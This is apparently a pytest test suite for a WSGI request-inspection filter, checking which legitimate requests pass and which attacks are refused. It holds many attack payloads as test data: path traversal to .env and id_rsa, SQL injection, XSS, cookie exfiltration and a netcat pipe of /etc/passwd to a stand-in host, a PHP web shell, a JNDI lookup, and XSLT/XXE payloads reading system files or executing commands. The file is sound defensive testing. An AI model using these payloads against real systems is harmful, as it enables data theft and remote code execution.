# ruff: noqa: E501  (paths and documents as programs write them)
"""What forges, shares and manuals show is read, and what editors, browsers and devices send passes."""

from __future__ import annotations

import base64
import json
import random
import string
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Finding, Inspection
from guard_wsgi.detection.formats.stylesheet import only_transforms
from tests.detection.requests import environ

FILES = (
    *("Dockerfile", ".github/workflows/ci.yml", ".env.example", "docker-compose.yml", "package.json"),
    *(".travis.yml", "config.yml", "passwd.txt", "keys/id_rsa.pub", "src/config.py", ".npmrc", ".htaccess"),
    *("config/database.yml", "yarn.lock", ".vscode/settings.json", "wp-config.php", "dump.sql", ".env"),
)  # fmt: skip
VIEWS = (
    "/ann/shop/blob/main/{}",
    "/blob/main/{}",
    "/ann/shop/-/blob/v1.2/{}",
    "/group/sub/shop/-/raw/main/{}",
    "/ann/shop/src/branch/main/{}",
    "/ann/shop/raw/0a1b2c3/{}",
    "/ann/shop/tree/feature-x/{}",
    "/ann/shop/blame/main/{}",
    "/ann/shop/commits/main/{}",
    "/api/v1/repos/ann/shop/contents/{}",
    "/api/v4/projects/5/repository/files/{}",
    "/cgit/shop.git/tree/main/{}",
)


@pytest.mark.parametrize("view", VIEWS)
def test_a_forge_shows_files_of_a_repository(inspection: Inspection, view: str) -> None:
    for name in FILES:
        assert not inspection.head(environ(path=view.format(name))), name


@pytest.mark.parametrize(
    "path",
    [
        "/users/ann/keys/id_rsa.pub",
        "/files/passwd.txt",
        "/man/passwd.5.html",
        "/docs/Dockerfile",
        "/dav/project/Dockerfile",
        "/s3/bucket/app/package.json",
        "/static/vendor/left-pad/package.json",
        "/download/shop/1.2/.env.example",
        "/downloads/shop/.github/workflows/test.yml",
    ],
)
def test_what_is_there_to_be_read_is_read(inspection: Inspection, path: str) -> None:
    assert not inspection.head(environ(path=path))


@pytest.mark.parametrize(
    "path",
    [
        # at the root, or in a folder that a site has
        *("/.env", "/.env.example", "/app/.env", "/src/app/.env", "/src/main/.env", "/Dockerfile"),
        *("/backend/Dockerfile", "/package.json", "/.github/workflows/ci.yml", "/config/database.yml"),
        *("/wp-config.php", "/old/wp-config.php.bak", "/id_rsa", "/.ssh/id_rsa", "/keys/id_rsa", "/passwd"),
        *("/a/b/.env", "/a/b/.env.local", "/a/b/.git/config", "/view/main/.env"),
        # the store of a repository is no part of it
        *("/ann/shop/blob/main/.git/config", "/blob/main/.git/HEAD"),
        # a form that leads somewhere else
        *("/blob/main/../../.env", "/blob/main/..%2f..%2f.env", "/blob/main//.env", "/blob/main/./.env"),
        *("/blob/main/..;/.env", "/blob/main/x\\..\\..\\.env", "/blob/main/.env\x00.txt"),
        # the view of nothing
        *("/blob/.env", "/raw/.env", "/tree/.git/config", "/contents/.env"),
    ],
)  # fmt: skip
def test_a_probe_for_a_file_of_the_site_is_refused(inspection: Inspection, path: str) -> None:
    assert inspection.head(environ(path=path))


@pytest.mark.parametrize(
    "path",
    [
        "/ann/shop/blob/main/../../../../etc/passwd",
        "/ann/shop/blob/main/' union select password from users -- ",
        "/ann/shop/blob/main/<script>alert(1)</script>",
        "/ann/shop/blob/$(cat /etc/passwd)/a",
        "/repos/a/b/contents/;cat /etc/passwd",
    ],
)
def test_a_forge_s_path_excuses_no_attack(inspection: Inspection, path: str) -> None:
    assert inspection.head(environ(path=path))


XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
SHEETS = (
    f'<xsl:stylesheet version="1.0" {XSL}><xsl:template match="/"><p/></xsl:template></xsl:stylesheet>',
    f'<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" {XSL}>\n<xsl:output method="html"/>\n<xsl:template match="/items"><ul><xsl:for-each select="item[@n > 1]"><li><xsl:value-of select="@name"/></li></xsl:for-each></ul></xsl:template>\n</xsl:stylesheet>',
    f'<xsl:transform version="2.0" {XSL}><xsl:template match="node()|@*"><xsl:copy><xsl:apply-templates select="node()|@*"/></xsl:copy></xsl:template></xsl:transform>',
    f'<xsl:stylesheet version="1.0" {XSL}><xsl:key name="k" match="row" use="@id"/><xsl:template match="//row[position() = 1]"><xsl:if test="count(//row) > 3"><b>many</b></xsl:if></xsl:template></xsl:stylesheet>',
    '<its:rules xmlns:its="http://www.w3.org/2005/11/its" version="2.0"><its:translateRule translate="no" selector="/gsettings//*"/><its:translateRule translate="yes" selector="//summary | //default[@l10n]"/></its:rules>',
)


@pytest.mark.parametrize("kind", ["application/xml", "text/xml", "application/xslt+xml"])
@pytest.mark.parametrize("sheet", SHEETS)
def test_a_style_sheet_that_transforms_passes(
    inspection: Inspection, sheet: str, kind: str
) -> None:
    assert not inspection.body(sheet.encode(), content_type=kind)


def sheet_with(content: str, attributes: str = "") -> str:
    return f'<xsl:stylesheet version="1.0" {XSL}{attributes}><xsl:template match="/">{content}</xsl:template></xsl:stylesheet>'


REACHING = (
    sheet_with("<xsl:copy-of select=\"document('/etc/passwd')\"/>"),
    sheet_with("<xsl:copy-of select=\"document ( 'http://e.example/' )\"/>"),
    sheet_with("<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/>"),
    sheet_with("<xsl:value-of select=\"system-property('xsl:vendor')\"/>"),
    sheet_with("<xsl:value-of select=\"php:function('system','id')\"/>", ' xmlns:php="http://php.net/xsl"'),
    sheet_with('<xsl:value-of select="rt:exec(rt:getRuntime(),1)"/>', ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"'),
    sheet_with('<xsl:result-document href="/var/www/x.php">x</xsl:result-document>'),
    sheet_with('<exploit:document href="x.txt"/>', ' xmlns:exploit="http://exslt.org/common" extension-element-prefixes="exploit"'),
    sheet_with('<a href="{document(1)}"/>'),
    f'<xsl:stylesheet version="1.0" {XSL}><xsl:include href="http://e.example/x.xsl"/></xsl:stylesheet>',
    f'<xsl:stylesheet version="1.0" {XSL}><xsl:import href="file:///etc/passwd"/></xsl:stylesheet>',
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xsl:stylesheet version="1.0" {XSL}><xsl:template match="/">&e;</xsl:template></xsl:stylesheet>',
    f'<?xml-stylesheet href="http://e.example/x.xsl"?><xsl:stylesheet version="1.0" {XSL}/>',
)  # fmt: skip


@pytest.mark.parametrize("sheet", REACHING)
def test_a_style_sheet_that_reaches_out_is_refused(inspection: Inspection, sheet: str) -> None:
    assert not only_transforms(sheet)
    assert inspection.body(sheet.encode(), content_type="application/xml")


def test_an_attribute_for_a_path_excuses_no_attack(inspection: Inspection) -> None:
    for text in (
        "' or 1=1 or ''='",
        "' union select password from users -- ",
        "$(cat /etc/passwd)",
    ):
        sheet = sheet_with(f'<xsl:value-of select="{text}"/>')
        assert inspection.body(sheet.encode(), content_type="application/xml")
    assert inspection.body(b"<a select=\"'] | //user/*[contains(*,'\"/>", content_type="text/xml")


SAMPLES = (
    *("alert(1)", "eval('1')", "alert(document.cookie)", "(function(){var x=1;})()", "setTimeout(function(){"),
    *('new Function("return this")()', "location.href='/login'", "window.dataLayer = window.dataLayer || [];"),
    *('!function(e,t){"object"==typeof exports', 'onclick="go()"', "javascript:void(0)"),
)  # fmt: skip


def report(sample: str) -> bytes:
    said = {"document-uri": "https://shop.example.com/p?x=1", "blocked-uri": "inline"}
    said |= {"violated-directive": "script-src 'self'", "script-sample": sample}
    return json.dumps({"csp-report": said}).encode()


def reports(sample: str) -> bytes:
    said = {"documentURL": "https://shop.example.com/p", "blockedURL": "inline", "sample": sample}
    return json.dumps([{"age": 10, "type": "csp-violation", "url": "/p", "body": said}]).encode()


@pytest.mark.parametrize("sample", SAMPLES)
def test_a_browser_quotes_what_it_has_blocked(inspection: Inspection, sample: str) -> None:
    assert not inspection.body(report(sample), content_type="application/csp-report")
    assert not inspection.body(reports(sample), content_type="application/reports+json")


@pytest.mark.parametrize(
    "sample",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "' union select password from users -- ",
        "; cat /etc/passwd",
        "{{7*7}}",
        "alert(1);" * 12,
    ],
)
def test_a_sample_is_a_short_program_or_nothing(inspection: Inspection, sample: str) -> None:
    assert inspection.body(report(sample), content_type="application/csp-report")
    assert inspection.body(reports(sample), content_type="application/reports+json")


def test_a_report_is_one_by_its_place(inspection: Inspection) -> None:
    """Old browsers, and who collects the reports, call them plain JSON: the type proves nothing."""
    assert not inspection.body(report("alert(1)"), content_type="application/json")
    beside = json.dumps({"csp-report": {}, "script-sample": "alert(1)"}).encode()
    assert inspection.body(beside, content_type="application/json")
    other = json.dumps({"csp-report": {"source-file": "alert(1)"}, "sample": "eval('1')"}).encode()
    assert inspection.body(other, content_type="application/csp-report")


SOURCES = (
    "'use strict'\n\nconst log = require('./log')\nconst { exists } = require('fs')\n\nfunction start (name) {\n  return exists(name) ? log(name) : null\n}\n\nmodule.exports = { start }\n",
    "#!/bin/sh\nset -e\ncd \"$(dirname \"$0\")/../..\" ||\n  exit 1\necho \"$*\" >&2\nTEST_DIR=$(pwd)\nexport TEST_DIR\n",
    "CREATE OR REPLACE FUNCTION f()\nRETURNS text LANGUAGE SQL\nAS $$ SELECT 'a'::text $$;\n\nGRANT EXECUTE ON FUNCTION f() TO web;\nSELECT f();\n",
    "/**\n * Module dependencies.\n */\n\nconst tty = require('tty');\nconst util = require('util');\n\nexports.init = init;\nexports.log = function (line) {\n  return process.stderr.write(util.format(line) + '\\n');\n};\n",
    "\"\"\"Settings.\"\"\"\nimport os\n\nDEBUG = bool(os.environ.get('DEBUG'))\nROOT = os.path.join(os.getcwd(), '..', 'static')\n\n\ndef names():\n    return os.listdir(ROOT)\n",
)  # fmt: skip


@pytest.mark.parametrize("source", SOURCES)
def test_a_program_in_base64_is_a_file(inspection: Inspection, source: str) -> None:
    data = source.encode()
    for text in (base64.b64encode(data).decode(), base64.encodebytes(data).decode()):
        document = {"message": "Add it", "content": text, "branch": "main"}
        assert not inspection.body(json.dumps(document).encode(), content_type="application/json")
        form = f"content={quote(text, safe='')}".encode()
        assert not inspection.body(form, content_type="application/x-www-form-urlencoded")


@pytest.mark.parametrize(
    "payload",
    [
        "' union select username, password from users -- ",
        "<script>document.location='//e.example/'+document.cookie</script>",
        "; cat /etc/passwd | nc e.example 80",
        "<?php system($_GET['c']); ?>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${jndi:ldap://e.example/a}",
    ],
)
def test_base64_of_several_lines_excuses_no_certain_attack(
    inspection: Inspection, payload: str
) -> None:
    def found(field: str, text: str) -> tuple[Finding, ...]:
        body = json.dumps({field: base64.b64encode(text.encode()).decode()}).encode()
        return inspection.body(body, content_type="application/json")

    assert found("content", payload)
    assert found("content", "one\ntwo\nthree\nfour\n" + payload)
    for field in ("cmd", "query", "q", "filter"):
        assert found(field, "one\ntwo\nthree\nfour\n" + payload)


def passwords(count: int) -> list[str]:
    made = random.Random(11)
    signs = string.ascii_letters + string.digits + string.punctuation
    return ["".join(made.choices(signs, k=made.choice((12, 16, 24)))) for _ in range(count)]


def test_a_generated_password_is_one_in_basic_and_as_a_shared_secret(
    inspection: Inspection,
) -> None:
    refused = []
    for text in [
        *passwords(500),
        "T%5%jpT|FP|W",
        "(|w)|^ipFMD>",
        "@{P-fQn07B8(",
        "&bf=z#{>(tq7{&+v;%DlTDH_",
    ]:
        token = base64.b64encode(f"ann:{text}".encode()).decode()
        if inspection.head(environ(HTTP_AUTHORIZATION=f"Basic {token}")):
            refused.append(text)
        for field in ("secret", "wifi_key", "psk"):
            body = json.dumps({"ssid": "home", field: text}).encode()
            if inspection.body(body, content_type="application/json"):
                refused.append(text)
    assert refused == []


@pytest.mark.parametrize(
    "payload",
    ["' or 1=1 -- ", "' union select password from users -- ", "<script>alert(1)</script>", "${jndi:ldap://e.example/a}"],
)  # fmt: skip
def test_an_attack_in_place_of_a_password_is_refused(inspection: Inspection, payload: str) -> None:
    token = base64.b64encode(f"ann:{payload}".encode()).decode()
    assert inspection.head(environ(HTTP_AUTHORIZATION=f"Basic {token}"))
    token = base64.b64encode(b"' or 1=1 -- :x").decode()
    assert inspection.head(environ(HTTP_AUTHORIZATION=f"Basic {token}"))
    for field in ("secret", "wifi_key", "secret_question", "pin"):
        body = json.dumps({field: payload}).encode()
        assert inspection.body(body, content_type="application/json")
